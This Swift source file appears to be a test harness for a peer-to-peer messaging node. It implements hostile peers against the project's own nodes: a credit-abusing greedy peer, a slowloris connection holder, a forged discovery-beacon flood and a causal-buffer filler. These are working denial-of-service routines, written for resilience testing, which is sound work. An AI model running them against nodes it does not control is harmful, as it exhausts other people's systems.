import Foundation
import NatterCrypto
public import NatterModel
import NatterNetwork
public import NatterNode
import NatterSync

#if canImport(Glibc)
import Glibc
#endif

/// The hostile peers of issue 19 (`natter debug attack …`), for the tests that run them against real nodes and for
/// measuring what they cost a node (scripts/attack-figures.sh). Each says, through `say`, one line of what it did and
/// how the victim answered (the tests wait for these lines). Never point them at a node that is not yours.
public enum HostilePeers {
    /// The attack could not link to its victim; it said why (`NAME: cannot link: …`) before throwing this.
    public struct CannotLink: Error {}

    /// A raw link to `address`, or a line saying why not (what the tests read) and `CannotLink`.
    static func link(_ address: PeerAddress, name: String, say: (String) -> Void) throws -> RawLink {
        do {
            return try RawLink(host: address.host, port: address.port)
        } catch {
            say("\(name): cannot link: \(error)")
            throw CannotLink()
        }
    }

    /// A greedy peer: after the handshake and an empty SUMMARY it repeats REQUEST-from-1 of one feed with CREDIT for
    /// a whole window, never reading its socket (or, with `read`, reading and discarding everything): the victim
    /// resends the feed again and again and, if it trusts the credit, queues what it cannot send. `requests`: how many
    /// REQUESTs at most (then CREDIT alone); 0, one with every CREDIT.
    public static func greedy(
        _ address: PeerAddress, conversation: ConversationID, author: AuthorID, seconds: Double,
        intervalMilliseconds: Int, read: Bool, requests: Int, say: (String) -> Void
    ) throws {
        let link = try link(address, name: "greedy", say: say)
        say("linked to \(link.peer.fingerprint)")
        let request = RawLink.request(conversation: conversation, author: author, from: 1)
        let start = ContinuousClock.now
        var pairs = 0
        do {
            try link.send(RawLink.emptySummary)
            while ContinuousClock.now - start < .seconds(seconds) {
                if requests == 0 || pairs < requests { try link.send(request) }
                try link.send(RawLink.credit(NatterSync.Limits.syncWindowBatches))
                pairs += 1
                if read { try link.drain() }
                usleep(UInt32(intervalMilliseconds) * 1000)
            }
        } catch {
            say("greedy: closed by the victim after \(elapsed(since: start)) s and \(pairs) requests (\(error))")
            return
        }
        say("greedy: still linked after \(elapsed(since: start)) s and \(pairs) requests")
    }

    /// Silent TCP connections from several source addresses, `perAddress` each, all renewed every `renew` seconds
    /// (before a 5 s handshake timeout): they hold the victim's handshake slots while sending nothing. A connection
    /// the victim closes (refused, evicted, timed out) is opened again at the next top-up, every 250 ms, so the
    /// attack holds as many slots as the victim lets it.
    public static func slowloris(
        _ address: PeerAddress, from sources: [String], perAddress: Int, renew: Double, seconds: Double,
        say: (String) -> Void
    ) {
        var open = [(source: String, fd: Int32)]()
        var opened = 0
        var closedByVictim = 0
        func topUp() {
            for source in sources {
                for _ in open.filter({ $0.source == source }).count..<perAddress {
                    // `try?`: a connection refused now is tried again at the next top-up.
                    guard let fd = try? RawLink.connect(host: address.host, port: address.port, source: source)
                    else { continue }
                    open.append((source, fd))
                    opened += 1
                }
            }
        }
        let start = ContinuousClock.now
        topUp()
        say("slowloris: \(open.count) silent connections open")
        var renewedAt = start
        var toppedUpAt = start
        while ContinuousClock.now - start < .seconds(seconds) {
            usleep(50_000)
            // A connection the victim closed reads as the end of the stream (or a reset).
            open = open.filter { connection in
                guard let bytes = try? RawLink.read(connection.fd, wait: .zero), bytes.isEmpty else { return true }
                Glibc.close(connection.fd)
                closedByVictim += 1
                return false
            }
            if ContinuousClock.now - renewedAt >= .seconds(renew) {
                renewedAt = ContinuousClock.now
                for connection in open { Glibc.close(connection.fd) }
                open = []
            }
            if ContinuousClock.now - toppedUpAt >= .milliseconds(250) || open.isEmpty {
                toppedUpAt = ContinuousClock.now
                topUp()
            }
        }
        for connection in open { Glibc.close(connection.fd) }
        say("slowloris: \(opened) connections opened in \(elapsed(since: start)) s, \(closedByVictim) closed by the victim")
    }

    /// Forged discovery beacons under the default network key, each with a fresh node tag, sent round-robin from
    /// several source addresses to `destination` (a broadcast address) at `rate` a second over all sources: every
    /// fresh tag makes a listening node dial the source at `announce` (point it at a port whose SYNs are dropped to
    /// make each dial wait for its timeout).
    public static func beacons(
        from sources: [String], to destination: String, port: Int, announce: Int, rate: Double, seconds: Double,
        say: (String) -> Void
    ) throws {
        let sockets = try sources.map { source -> Int32 in
            let fd = socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0)
            var one: Int32 = 1
            _ = setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, socklen_t(MemoryLayout<Int32>.size))
            try RawLink.call(Glibc.bind, fd, try RawLink.address(source, port: 0), "cannot bind \(source)")
            return fd
        }
        defer { for fd in sockets { Glibc.close(fd) } }
        var destination = try RawLink.address(destination, port: port)
        let key = NetworkKey.defaultNetwork.beaconKey
        var random = SecureRandomGenerator()
        let start = ContinuousClock.now
        var sent = 0
        while ContinuousClock.now - start < .seconds(seconds) {
            let due = Int((ContinuousClock.now - start) / .seconds(1) * rate)
            while sent <= due {
                let beacon = Beacon(tag: NodeTag.random(using: &random), port: UInt16(announce))
                let bytes = beacon.seal(key: key, nonce: .random())
                let fd = sockets[sent % sockets.count]
                _ = withUnsafePointer(to: &destination) { pointer in
                    pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) { address in
                        bytes.withUnsafeBytes {
                            sendto(fd, $0.baseAddress, $0.count, 0, address, socklen_t(MemoryLayout<sockaddr_in>.size))
                        }
                    }
                }
                sent += 1
            }
            usleep(5_000)
        }
        say("beacons: \(sent) forged beacons with fresh tags in \(elapsed(since: start)) s from \(sockets.count) addresses")
    }

    /// Fills the victim's causal buffer: feeds of `authors` throwaway authors in a conversation of their own, every
    /// record sent but the first of each feed (about `records` in all), so all of them wait for a predecessor that
    /// never comes. Stays linked (and answers nothing else) for `seconds`.
    public static func causalFill(
        _ address: PeerAddress, records: Int, authors: Int, seconds: Double, say: (String) -> Void
    ) throws {
        var random = SecureRandomGenerator()
        let flood = try floodRecords(
            conversation: floodConversation("causal-fill-\(random.next())"), authors: authors,
            perAuthor: records / authors + 1, seed: random.next()
        ).filter { $0.header.sequence > 1 }
        let link = try link(address, name: "causal-fill", say: say)
        let start = ContinuousClock.now
        var sent = 0
        do {
            try link.send(RawLink.emptySummary)
            sent = try send(flood, on: link)
            say("causal-fill: sent \(sent) records, every feed from sequence 2")
            while ContinuousClock.now - start < .seconds(seconds) {
                _ = try link.receive(wait: .seconds(1))
                try link.send(RawLink.ping)
            }
        } catch {
            say("causal-fill: closed by the victim after \(elapsed(since: start)) s and \(sent) records (\(error))")
            return
        }
        say("causal-fill: still linked after \(elapsed(since: start)) s")
    }

    /// Sends `records` in batches within the victim's credit (a window of 8 batches, returned by CREDIT or on its
    /// RECORDS), and waits (at most a minute) until the victim has returned the credit of all but the batches it may
    /// keep due; returns how many went.
    static func send(_ records: [Record], on link: RawLink) throws -> Int {
        var credit = NatterSync.Limits.syncWindowBatches
        var remaining = records[...]
        while !remaining.isEmpty {
            // Pinging while the victim holds the window, as an honest peer heartbeats: a victim slowed by load may
            // keep the credit longer than its silence timeout (6 s), and would rightly close a silent link.
            while credit == 0 {
                let messages = try link.receive(wait: .seconds(1))
                for message in messages { credit += RawLink.creditReturned(by: message) }
                if credit == 0 { try link.send(RawLink.ping) }
            }
            var batch = [Record]()
            var bytes = 0
            while let next = remaining.first, batch.count < NatterSync.Limits.syncBatchRecordsMax,
                bytes + next.bytes.count <= NatterSync.Limits.syncBatchBytesMax
            {
                batch.append(next)
                bytes += next.bytes.count
                remaining = remaining.dropFirst()
            }
            try link.send(RawLink.records(batch))
            credit -= 1
        }
        // The credit back but for the few batches a receiver may keep due (it returns them four at a time): the
        // victim has ingested, and buffered, all the others. Pinging meanwhile, so the link is not idle.
        let unreturned = NatterSync.Limits.syncCreditReturnBatches - 1
        let deadline = ContinuousClock.now + .seconds(60)
        while credit < NatterSync.Limits.syncWindowBatches - unreturned, ContinuousClock.now < deadline {
            for message in try link.receive(wait: .seconds(1)) { credit += RawLink.creditReturned(by: message) }
            try link.send(RawLink.ping)
        }
        return records.count
    }
}

/// Seconds since `start`, to one decimal.
private func elapsed(since start: ContinuousClock.Instant) -> String {
    String(format: "%.1f", Double((ContinuousClock.now - start).components.seconds)
        + Double((ContinuousClock.now - start).components.attoseconds) / 1e18)
}
